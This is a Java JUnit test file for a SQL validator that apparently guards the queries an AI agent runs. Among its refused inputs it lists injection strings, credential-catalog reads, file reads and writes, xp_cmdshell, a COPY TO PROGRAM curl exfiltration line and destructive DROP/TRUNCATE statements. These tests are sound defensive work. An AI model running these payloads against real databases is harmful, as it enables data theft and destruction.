package dev.toolgate.agent.validation.sql;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.toolgate.agent.validation.Verdict;
import java.time.Duration;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class SqlValidatorTest {

    private final SqlValidator read = new SqlValidator(true, 100_000, 1_000, false);
    private final SqlValidator write = new SqlValidator(false, 100_000, 1_000, false);

    @ParameterizedTest
    @ValueSource(
            strings = {
                "SELECT id, name FROM customers WHERE region = 'EU'",
                "select count(*) from orders o join customers c on c.id = o.customer_id group by c.region",
                "WITH recent AS (SELECT * FROM orders WHERE created > now() - interval '7 days') SELECT count(*) FROM recent",
                "SELECT name FROM products ORDER BY price DESC LIMIT 10;",
                "SELECT a FROM t UNION SELECT b FROM u"
            })
    void readQueriesPassSqlRead(String sql) {
        Verdict verdict = read.check(sql);
        assertTrue(verdict.allowed(), sql + " -> " + verdict.reason());
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "DELETE FROM orders WHERE id = 7",
                "SELECT 1; DROP TABLE users",
                "SELECT * INTO backup FROM users",
                "SELECT * FROM users WHERE name = '' OR '1'='1'",
                "SELECT * FROM users WHERE id = 1 OR 1=1 --",
                "SELECT load_file('/etc/passwd')",
                "SELECT pg_sleep(10)",
                "SELECT * FROM t INTO OUTFILE '/var/www/x.php'",
                "' OR 'x'='x",
                "UNION ALL SELECT password FROM users--",
                "SELECT * FROM t WHERE a = 'unterminated",
                ""
            })
    void writesStackingAndInjectionFailSqlRead(String sql) {
        assertFalse(read.check(sql).allowed(), sql);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "UPDATE orders SET status = 'shipped' WHERE id = 4711",
                "INSERT INTO audit(event) VALUES ('login')",
                "DELETE FROM sessions WHERE expires < now()",
                "ALTER TABLE users ADD COLUMN nickname varchar(40)"
            })
    void ordinaryWritesPassSql(String sql) {
        Verdict verdict = write.check(sql);
        assertTrue(verdict.allowed(), sql + " -> " + verdict.reason());
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "DrOp/**/TaBlE users",
                "drop table if exists users",
                "TRUNCATE TABLE logs",
                "ALTER TABLE users DROP COLUMN email",
                "DELETE FROM users",
                "UPDATE users SET admin = true",
                "UPDATE users SET admin = true WHERE 1 = 1",
                "GRANT ALL PRIVILEGES ON db.* TO 'eve'@'%'",
                "EXEC xp_cmdshell 'whoami'",
                "COPY users TO PROGRAM 'curl -d @- http://x.example'",
                "INSERT INTO t VALUES (1); DELETE FROM t WHERE id = 1",
                "CREATE USER eve IDENTIFIED BY 'x'",
                "KILL 4711",
                "KILL QUERY 4711"
            })
    void destructiveStatementsFailSql(String sql) {
        assertFalse(write.check(sql).allowed(), sql);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "SELECT a INTO @total FROM t",
                "SELECT a FROM t UNION SELECT b FROM u INTO @x",
                "SELECT * FROM (SELECT a INTO @v FROM t) s",
                "BEGIN SELECT 1; END",
                "/*!50000 SELECT 1 */"
            })
    void selectIntoVariablesAndBlocksFailSqlRead(String sql) {
        assertFalse(read.check(sql).allowed(), sql);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "DROP DATABASE shop",
                "DROP INDEX idx_name ON users",
                "DROP VIEW active_users",
                "ALTER TABLE orders DROP PARTITION p2019",
                "ALTER TABLE orders DROP CONSTRAINT fk_customer",
                "ALTER TABLE orders DROP PRIMARY KEY, DROP INDEX idx_status",
                "ALTER TABLE orders TRUNCATE PARTITION p2019",
                "REVOKE SELECT ON shop.* FROM analyst",
                "CREATE ROLE auditor",
                "ALTER USER eve IDENTIFIED BY 'secret'",
                "DROP USER eve",
                "SET PASSWORD FOR eve = 'secret'",
                "CALL purge_orders(2019)",
                "EXECUTE stmt1",
                "LOAD DATA INFILE '/etc/passwd' INTO TABLE t",
                "/*!50000 DROP TABLE users */",
                "DELETE FROM orders WHERE 'a' = 'a' OR 2 > 1",
                "IF @n > 0 THEN DELETE FROM t WHERE id = 1; ELSE DROP TABLE t; END IF;",
                "BEGIN UPDATE t SET a = 1 WHERE id = 2; TRUNCATE TABLE t; END",
                "UPDATE t SET a = 1 WHERE id = 2; UPDATE t SET a = 2 WHERE id = 3"
            })
    void moreDestructiveStatementsFailSql(String sql) {
        assertFalse(write.check(sql).allowed(), sql);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "BEGIN UPDATE t SET a = 1 WHERE id = 2; DELETE FROM t WHERE id = 3; END",
                "IF @n > 0 THEN UPDATE t SET a = 1 WHERE id = 2; END IF;",
                "SELECT a FROM t WHERE id = 7"
            })
    void harmlessBlocksAndSelectsPassSql(String sql) {
        Verdict verdict = write.check(sql);
        assertTrue(verdict.allowed(), sql + " -> " + verdict.reason());
    }

    @Test
    void reasonsNameTheStatementAndItsObject() {
        assertEquals(
                "DROP TABLE destroys users", write.check("DROP TABLE users").reason());
        assertEquals("TRUNCATE empties logs", write.check("TRUNCATE TABLE logs").reason());
        assertEquals(
                "ALTER TABLE users ... DROP COLUMN destroys data",
                write.check("ALTER TABLE users DROP COLUMN email").reason());
        assertEquals(
                "DELETE without a WHERE condition deletes every row of users",
                write.check("DELETE FROM users").reason());
        assertEquals(
                "only a single SELECT statement is allowed here, not INSERT",
                read.check("INSERT INTO audit(event) VALUES ('login')").reason());
        assertEquals(
                "SELECT ... INTO creates or fills a table",
                read.check("SELECT * INTO backup FROM users").reason());
    }

    @Test
    void aBackslashThatHidesASecondStatementFromMySqlIsRefused() {
        // MySQL reads \' as a quote inside the string, standard SQL ends the string before the backslash
        Verdict verdict = write.check("UPDATE t SET a = 'x\\'; DROP TABLE t; -- ' WHERE id = 1");
        assertFalse(verdict.allowed());
        assertTrue(verdict.reason().startsWith("stacked statements"), verdict.reason());
        assertTrue(read.check("SELECT * FROM t WHERE path = 'C:\\temp'").allowed(), "a backslash alone is fine");
    }

    @Test
    void aParserFaultIsADenialEvenWhereUnparsableReadsFallBackToTokens() {
        // Druid 1.2.24's MySQL grammar throws IllegalArgumentException (not its ParserException) on this item
        SqlValidator mysqlRead = new SqlValidator(
                true, 100_000, 1_000, false, SqlDialect.MYSQL, dev.toolgate.agent.rules.RulePack.builtIn());
        Verdict verdict = mysqlRead.check("SELECT values AS v FROM t");
        assertFalse(verdict.allowed());
        assertTrue(
                verdict.reason().contains("the parser could not read it (IllegalArgumentException"), verdict.reason());
    }

    @Test
    void selectItemsWithBareAliasesParse() {
        // Druid's parser reaches commons-lang3 for these (alibaba/druid#6431): the agent must ship it
        Verdict verdict = read.check("SELECT b.id id, sum(b.total) total FROM orders b GROUP BY b.id");
        assertTrue(verdict.allowed(), verdict.reason());
    }

    @Test
    void chainsTheNestingCapDoesNotCountAreJudgedOrRefusedNeverThrown() {
        // parentheses are capped before parsing; operator chains and unary prefixes are not, and Druid recurses
        // on them (while parsing "- - - 1", while walking "a AND b AND …"): a stack overflow is a denial
        assertTimeoutPreemptively(Duration.ofSeconds(10), () -> {
            for (SqlValidator validator : new SqlValidator[] {read, write}) {
                assertFalse(
                        validator.check("SELECT " + "- ".repeat(40_000) + "1").allowed());
                Verdict chain = validator.check("SELECT * FROM t WHERE " + "a = 1 AND ".repeat(9_000) + "b = 2");
                assertTrue(chain.allowed() || chain.reason().startsWith("the SQL cannot be judged"), chain.reason());
                Verdict unions = validator.check("SELECT a FROM t " + "UNION SELECT a FROM t ".repeat(4_000));
                assertTrue(unions.allowed() || unions.reason().startsWith("the SQL cannot be judged"), unions.reason());
            }
        });
    }

    @Test
    void hostileInputIsBounded() {
        assertTimeoutPreemptively(Duration.ofSeconds(10), () -> {
            assertFalse(read.check("SELECT " + "(".repeat(10_000) + "1" + ")".repeat(10_000))
                    .allowed());
            assertFalse(read.check("SELECT 1 FROM t WHERE a IN (" + "SELECT (".repeat(40) + "1" + ")".repeat(80))
                    .allowed());
            assertFalse(read.check("SELECT '" + "x".repeat(200_000) + "'").allowed());
            assertFalse(read.check("SELECT 1\0").allowed());
        });
    }

    @Test
    void readsOfAccountAndGrantCatalogsAreRefusedByTheirRule() {
        for (String sql : List.of(
                "SELECT host, user, authentication_string FROM mysql.user",
                "SELECT rolname, rolpassword FROM pg_authid",
                "SELECT name, password_hash FROM sys.sql_logins WHERE is_disabled = 0",
                "SELECT grantee, privilege FROM dba_sys_privs",
                "SELECT tabname FROM SYSCAT.TABAUTH WHERE grantee = 'APP'")) {
            dev.toolgate.agent.validation.Verdict verdict = read.check(sql);
            assertFalse(verdict.allowed(), sql);
            assertEquals("sql.privilege-catalogs", verdict.rule(), sql);
        }
        assertTrue(read.check("SELECT table_name FROM information_schema.tables WHERE table_schema = 'shop'")
                .allowed());
        assertTrue(read.check("SELECT u.name FROM app.user u JOIN app.grants g ON g.user_id = u.id")
                .allowed());
        assertTrue(read.check("SELECT name FROM users WHERE role = 'admin'").allowed());
    }

    @Test
    void aCaseFixedByConstantsIsABooleanProbe() {
        assertFalse(read.check("SELECT CASE WHEN (2>1) THEN 'x' ELSE 'y' END").allowed());
        assertFalse(read.check("SELECT id FROM t WHERE id = (CASE WHEN 'a' = 'a' THEN 1 ELSE 2 END)")
                .allowed());
        assertTrue(read.check("SELECT CASE WHEN qty > 10 THEN 'bulk' ELSE 'single' END FROM lines")
                .allowed());
        assertTrue(read.check("SELECT CASE status WHEN 1 THEN 'open' WHEN 2 THEN 'closed' END FROM tickets")
                .allowed());
    }
}
